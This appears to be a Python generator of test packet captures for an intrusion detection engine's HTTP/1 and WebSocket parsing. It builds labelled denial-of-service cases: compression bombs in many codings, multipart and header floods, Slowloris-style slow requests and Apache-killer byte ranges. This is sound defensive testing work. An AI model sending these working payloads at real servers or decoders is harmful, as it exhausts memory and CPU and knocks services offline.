# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on HTTP/1: codings that unpack to much, headers, multipart, transactions, WebSocket."""
import lzma
import random
import struct
import zlib

from catalogue import connect, entry, one_segment, rounds
from pcapgen import http_request, http_response

GET = http_request("www.example.com", "/index.html")
# What brotli's encoder makes of 1 MiB of zeros at a window of 4 MiB, and 64 MiB at 16 MiB.
BROTLI_1M = bytes.fromhex("5bffff8f7f02201e0b0472ef1f00")
BROTLI_64M = bytes.fromhex("cfffff7ff82700e2b14020f7fe9ffffffff04f00c4610180eefd3fffffffe19f0088c3"
                           "2200ddfbfffcffffc73f0110870500baf7ff")
# The first 11 bytes of a body of 1000 zeros that asks for a window of 16 MiB; the rest is missing.
BROTLI_OPEN = bytes.fromhex("1fe703f82700a2b14020")
RNG = random.Random(1)
TEXT = "".join(RNG.choice("abcdefghij klmnop qrstuvwxyz\n") for _ in range(200000)).encode()


def gzip_of(data, level=9):
    packer = zlib.compressobj(level, zlib.DEFLATED, 31)
    return packer.compress(data) + packer.flush()


def zstd_bomb(mib, window_log=20):
    """Frames of blocks that repeat one byte."""
    head = b"\x28\xb5\x2f\xfd\x00" + bytes([(window_log - 10) << 3])
    block = struct.pack("<I", 128 * 1024 << 3 | 1 << 1)[:3] + b"A"
    last = struct.pack("<I", 128 * 1024 << 3 | 1 << 1 | 1)[:3] + b"A"
    return head + block * (mib * 8 - 1) + last


ZEROS = {mib: bytes(mib << 20) for mib in (1, 8)}


def exchange(flow, coding, body, request=GET):
    flow.to_server(request)
    head = (f"Content-Encoding: {coding}",) if coding else ()
    one_segment(flow, 1, http_response(body, headers=head))
    flow.send(0, 16)


def pages(cap, size, body_size=20000, coding=None, uploads=False):
    """Ordinary pages, packed ordinarily."""
    for i in rounds(cap, size, 0):
        flow = connect(cap, 80, i)
        for j in range(10):
            body = TEXT[(i * 10 + j) % 1000:][:max(100, min(body_size, size - cap.bytes))]
            if coding == "gzip":
                body = gzip_of(body)
            elif coding == "deflate":
                body = zlib.compress(body)
            if uploads:
                flow.to_server(http_request("www.example.com", "/up", method="POST", body=body))
                flow.to_client(http_response(b"ok"))
            else:
                exchange(flow, coding, body)
            if cap.bytes >= size:
                break
        flow.close()


def bombs(cap, size, coding, body, count, twin="gzip"):
    """The same body in many responses, one in each connection."""
    if size is not None:
        pages(cap, size, len(body) * 3, twin)
        return
    for i in range(count):
        flow = connect(cap, 80, i)
        exchange(flow, coding, body)
        flow.close()


@entry("HTTP: gzip bombs of 8 MiB", "CVE-2003-1564 and others, zip bombs", short=True, proto="http")
def http_bomb_gzip(cap, size):
    bombs(cap, size, "gzip", gzip_of(ZEROS[8]), 100)


@entry("HTTP: deflate bombs of 1 MiB, just below the limit", "zip bombs", short=True, proto="http")
def http_bomb_deflate(cap, size):
    bombs(cap, size, "deflate", zlib.compress(bytes(1000000), 9), 400, "deflate")


@entry("HTTP: gzip bombs one after another in one connection", "zip bombs", proto="http")
def http_bomb_pipelined(cap, size):
    if size is not None:
        pages(cap, size, 3000, "gzip")
        return
    flow = connect(cap, 80)
    body = gzip_of(bytes(1000000))
    for _ in range(500):
        exchange(flow, "gzip", body)


@entry("HTTP: brotli bombs of 1 MiB", "CVE-2020-8927 and others, brotli bombs", short=True, proto="http")
def http_bomb_brotli(cap, size):
    bombs(cap, size, "br", BROTLI_1M, 800)


@entry("HTTP: brotli bombs of 64 MiB", "brotli bombs", short=True, proto="http")
def http_bomb_brotli_large(cap, size):
    bombs(cap, size, "br", BROTLI_64M, 500)


@entry("HTTP: windows of brotli that stay open", "memory before the first byte", short=True, proto="http")
def http_open_brotli(cap, size):
    open_windows(cap, size, "br", BROTLI_OPEN, 800)


@entry("HTTP: windows of gzip that stay open", "memory held by decompressors", short=True, proto="http")
def http_open_gzip(cap, size):
    open_windows(cap, size, "gzip", gzip_of(TEXT[:100])[:60], 1500)


@entry("HTTP: windows of zstd of 8 MiB that stay open", "memory held by decompressors", proto="http")
def http_open_zstd(cap, size):
    open_windows(cap, size, "zstd", zstd_bomb(1, 23)[:40], 800)


@entry("HTTP: dictionaries of LZMA that stay open", "memory held by decompressors",
       sets=["app-layer.protocols.http.libhtp.default-config.lzma-enabled=true"], proto="http")
def http_open_lzma(cap, size):
    body = lzma.compress(TEXT[:2000], lzma.FORMAT_ALONE,
                         filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 30}])
    open_windows(cap, size, "lzma", body[:300], 800)


def open_windows(cap, size, coding, start, count):
    if size is not None:
        pages(cap, size, 300, "gzip")
        return
    flows = [connect(cap, 80, i) for i in range(count)]
    for flow in flows:
        flow.to_server(GET)
        flow.to_client(f"HTTP/1.1 200 OK\r\nContent-Encoding: {coding}\r\nContent-Length: 9000"
                       "\r\n\r\n".encode() + start)


@entry("HTTP: zstd bombs of 8 MiB", "zip bombs", short=True, proto="http")
def http_bomb_zstd(cap, size):
    bombs(cap, size, "zstd", zstd_bomb(8), 500)


@entry("HTTP: zstd, thousands of frames in a body", "members that each start a decoder", proto="http")
def http_zstd_frames(cap, size):
    bombs(cap, size, "zstd", (b"\x28\xb5\x2f\xfd\x00\x58" + b"\x0b\0\0A") * 4000, 20)


@entry("HTTP: gzip, thousands of members in a body", "members that each start a decoder",
       short=True, proto="http")
def http_gzip_members(cap, size):
    bombs(cap, size, "gzip", gzip_of(b"") * 2000, 20)


@entry("HTTP: LZMA bombs", "zip bombs",
       sets=["app-layer.protocols.http.libhtp.default-config.lzma-enabled=true"], short=True, proto="http")
def http_bomb_lzma(cap, size):
    body = lzma.compress(ZEROS[8], lzma.FORMAT_ALONE)
    bombs(cap, size, "lzma", body, 300)


@entry("HTTP: codings in codings", "nested zip bombs", short=True, proto="http")
def http_bomb_nested(cap, size):
    body = gzip_of(gzip_of(gzip_of(bytes(64 << 20))))
    bombs(cap, size, "gzip, gzip, gzip", body, 800)


@entry("HTTP: a list of thousands of codings", "loops over what a header names",
       sets=["app-layer.protocols.http.libhtp.default-config.response-body-decompress-layer-limit=0"], proto="http")
def http_coding_list(cap, size):
    bombs(cap, size, ", ".join(["gzip"] * 1000), gzip_of(TEXT[:1000]), 100)


@entry("HTTP: deflate of random bytes, read as one coding and then another",
       "fallbacks from one coding to another", proto="http")
def http_broken_deflate(cap, size):
    bombs(cap, size, "deflate", random.Random(2).randbytes(20000), 40)


@entry("HTTP: uploads packed as bombs", "zip bombs towards servers", short=True,
       sets=["app-layer.protocols.http.libhtp.default-config.request-body-limit=0"], proto="http")
def http_bomb_upload(cap, size):
    if size is not None:
        pages(cap, size, 9000, uploads=True)
        return
    body = gzip_of(bytes(1000000))
    for i in range(400):
        flow = connect(cap, 80, i)
        flow.to_server(http_request("a", "/up", method="POST", body=body,
                                    headers=("Content-Encoding: gzip",)))
        flow.to_client(http_response(b"ok"))


@entry("HTTP: a flash file as a bomb", "zip bombs in SWF", short=True, rules=(
    'alert http any any -> any any (file.data; content:"nowhere"; sid:1;)\n'), sets=[
        "app-layer.protocols.http.libhtp.default-config.swf-decompression.enabled=yes",
        "app-layer.protocols.http.libhtp.default-config.swf-decompression.decompress-depth=0"], proto="http")
def http_bomb_swf(cap, size):
    body = b"CWS\x0a" + struct.pack("<I", 8 << 20) + zlib.compress(ZEROS[8], 9)
    bombs(cap, size, None, body, 100)


def multipart(parts, body=b"x"):
    out = b"".join(b'--b\r\nContent-Disposition: form-data; name="f"; filename="%d"\r\n\r\n%s\r\n'
                   % (i, body) for i in range(parts))
    return out + b"--b--\r\n"


def forms(cap, size, body):
    head = ("Content-Type: multipart/form-data; boundary=b",)
    flow = connect(cap, 80)
    flow.to_server(http_request("a", "/up", method="POST", body=body, headers=head))
    flow.to_client(http_response(b"ok"))
    if size is not None:
        pages(cap, size, uploads=True)


@entry("HTTP: multipart with thousands of files", "CVE-2023-24998, many parts", short=True, proto="http")
def http_multipart_parts(cap, size):
    forms(cap, size, multipart(12000 if size is None else 3))


@entry("HTTP: multipart with a boundary that almost ends, again and again",
       "CVE-2014-0050, boundaries", short=True, proto="http")
def http_multipart_boundary(cap, size):
    forms(cap, size, b'--b\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\n' +
          b"\r\n--\r\n-" * 100000 if size is None else multipart(3))


@entry("HTTP: multipart, endless part headers", "CVE-2023-24998, many headers of a part", proto="http")
def http_multipart_headers(cap, size):
    forms(cap, size, b"--b\r\n" + b"A: b\r\n" * 100000 if size is None else multipart(3))


@entry("HTTP: uploads of many open parts in many connections", "memory held by parts", proto="http")
def http_multipart_open(cap, size):
    if size is not None:
        pages(cap, size, 300, uploads=True)
        return
    body = multipart(30)[:-20] + b"x" * 300
    for i in range(400):
        flow = connect(cap, 80, i)
        flow.to_server(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; "
                       b"boundary=b\r\nContent-Length: 99999\r\n\r\n" + body)


@entry("HTTP: headers that come a byte at a time", "Slowloris, 2009", short=True, proto="http")
def http_slow_headers(cap, size):
    if size is not None:
        pages(cap, size, 300)
        return
    flows = [connect(cap, 80, i) for i in range(100)]
    for flow in flows:
        flow.to_server(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")
    for i in range(120):
        for flow in flows:
            flow.send(0, 24, b"ab" if i % 20 else b"\r\nX: ")


@entry("HTTP: a header line without end, in small segments", "CVE-2011-3192 style; copies again",
       short=True, proto="http")
def http_long_line(cap, size):
    if size is not None:
        pages(cap, size, 300)
        return
    for i in range(10):
        flow = connect(cap, 80, i)
        flow.to_server(b"GET / HTTP/1.1\r\nX: ")
        for _ in range(1500):
            flow.send(0, 24, b"a" * 20)


@entry("HTTP: thousands of header lines", "CVE-2011-4461 style; many headers", short=True, proto="http")
def http_many_headers(cap, size):
    if size is not None:
        pages(cap, size)
        return
    lines = b"".join(b"A%d: b\r\n" % i for i in range(30000))
    for i in range(3):
        flow = connect(cap, 80, i)
        one_segment(flow, 0, b"GET / HTTP/1.1\r\nHost: a\r\n" + lines + b"\r\n")
        flow.to_client(http_response(b"ok"))


@entry("HTTP: one header again and again, joined each time", "CVE-2018-8777; quadratic joins",
       short=True, proto="http")
def http_repeated_header(cap, size):
    if size is not None:
        pages(cap, size)
        return
    for i in range(20):
        flow = connect(cap, 80, i)
        one_segment(flow, 0, b"GET / HTTP/1.1\r\nHost: a\r\n" + b"Cookie: a\r\n" * 5000 + b"\r\n")
        flow.to_client(http_response(b"ok"))


@entry("HTTP: folded header lines", "CVE-2018-8777 style; quadratic joins", proto="http")
def http_folded_header(cap, size):
    if size is not None:
        pages(cap, size)
        return
    flow = connect(cap, 80)
    one_segment(flow, 0, b"GET / HTTP/1.1\r\nHost: a\r\nX: a\r\n" + b" b\r\n" * 200000 + b"\r\n")
    flow.to_client(http_response(b"ok"))


@entry("HTTP: pipelined requests without an answer", "transactions that stay open", short=True, proto="http")
def http_pipelined(cap, size):
    if size is not None:
        pages(cap, size, 300)
        return
    for i in range(4):
        flow = connect(cap, 80, i)
        for _ in range(250):
            flow.to_server(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 30)


@entry("HTTP: tiny requests, a record each", "log amplification: records by transaction",
       short=True, proto="http")
def http_tiny_requests(cap, size):
    if size is not None:
        pages(cap, size, 300)
        return
    flow = connect(cap, 80)
    for _ in range(300):
        one_segment(flow, 0, b"GET / HTTP/1.1\r\n\r\n" * 50)
        one_segment(flow, 1, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n" * 50)


@entry("HTTP: bodies in chunks of one byte", "CVE-2005-2088 style; tiny chunks", short=True, proto="http")
def http_tiny_chunks(cap, size):
    if size is not None:
        pages(cap, size)
        return
    flow = connect(cap, 80)
    flow.to_server(GET)
    one_segment(flow, 1, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" +
                b"1\r\na\r\n" * 150000 + b"0\r\n\r\n")


@entry("HTTP: a chunk length without end", "long lines in bodies", proto="http")
def http_chunk_length(cap, size):
    if size is not None:
        pages(cap, size)
        return
    flow = connect(cap, 80)
    flow.to_server(GET)
    one_segment(flow, 1, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + b"0" * 900000)


@entry("HTTP: byte ranges in any order, over many files", "CVE-2011-3192, Apache killer",
       short=True, rules='alert http any any -> any any (file.data; content:"nowhere"; sid:1;)\n', proto="http")
def http_ranges(cap, size):
    if size is not None:
        pages(cap, size, 300)
        return
    rng = random.Random(3)
    flow = connect(cap, 80)
    for i in range(1500):
        at = 100 * rng.randrange(10000)
        flow.to_server(http_request("a", "/file%d" % (i % 100)))
        flow.to_client(http_response(b"x" * 100, "206 Partial Content", headers=(
            f"Content-Range: bytes {at}-{at + 99}/1000000",)))


@entry("HTTP: a path of escapes and dots", "normalization of paths, double decoding", proto="http")
def http_path(cap, size):
    if size is not None:
        pages(cap, size)
        return
    flow = connect(cap, 80)
    for _ in range(40):
        one_segment(flow, 0, b"GET /" + b"a/../%2e%2e/%252e/" * 500 + b" HTTP/1.1\r\nHost: a\r\n"
                    b"\r\n")
        flow.to_client(http_response(b"ok"))
    for _ in range(40):
        one_segment(flow, 0, b"GET /" + b"../" * 4000 + b" HTTP/1.1\r\nHost: a\r\n\r\n")
        flow.to_client(http_response(b"ok"))


@entry("HTTP: answers of 100 Continue without end", "states that never end", proto="http")
def http_continue(cap, size):
    if size is not None:
        pages(cap, size)
        return
    flow = connect(cap, 80)
    flow.to_server(http_request("a", "/", method="POST", headers=("Content-Length: 5",)))
    one_segment(flow, 1, b"HTTP/1.1 100 Continue\r\n\r\n" * 35000)


UPGRADE = (b"GET /ws HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
           b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
UPGRADED = (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n"
            b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n")


def websocket(cap, size, frame, count):
    flow = connect(cap, 80)
    flow.to_server(UPGRADE)
    flow.to_client(UPGRADED)
    flow.to_server(b"\x81\x85\0\0\0\0hello")
    for _ in rounds(cap, size, 1):
        ordinary = b"\x81\x7e" + struct.pack(">H", 1200) + TEXT[:1200]
        one_segment(flow, 1, frame * count if size is None else ordinary)


@entry("WebSocket: frames of no bytes", "log amplification: tiny messages", short=True, proto="websocket")
def websocket_tiny(cap, size):
    websocket(cap, size, b"\x81\x01a", 60000)


@entry("WebSocket: messages as bombs", "CVE-2024-7254 style; permessage-deflate bombs",
       short=True, proto="websocket")
def websocket_bomb(cap, size):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(bytes(2 << 20)) + packer.flush(zlib.Z_SYNC_FLUSH)[:-4]
    websocket(cap, size, b"\xc1\x7e" + struct.pack(">H", len(body)) + body, 250)


@entry("WebSocket: a message in many fragments that never ends", "CVE-2018-1000518 style", proto="websocket")
def websocket_fragments(cap, size):
    websocket(cap, size, b"\x00\x02ab", 150000)
